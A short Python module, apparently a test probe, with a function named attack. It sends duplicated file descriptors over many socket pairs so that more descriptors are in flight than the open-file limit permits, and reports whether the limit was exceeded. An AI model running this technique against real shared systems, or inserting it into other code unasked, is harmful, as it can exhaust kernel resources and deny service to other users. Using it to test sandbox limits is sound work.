"""Put more descriptors into flight than one may have open: into pairs whose ends then close."""
import os
import resource
import socket


def attack(target):
    limit = 256
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    reader, writer = os.pipe()
    sent, pairs = 0, []
    try:
        while sent < 4 * max(limit, min(soft, 1024)):
            first, second = socket.socketpair()
            pairs.append((first, second))
            first.setblocking(False)
            descriptors = [reader, writer, first.fileno(), second.fileno(), *(fd for fd in (3,) if is_open(fd))]
            socket.send_fds(first, [b"x"], descriptors * 40)
            sent += 40 * len(descriptors)
    except OSError:
        pass
    for end in (end for pair in pairs for end in pair):
        end.close()
    return sent if sent >= 4 * limit else None


def is_open(fd):
    try:
        return bool(os.fstat(fd))
    except OSError:
        return False
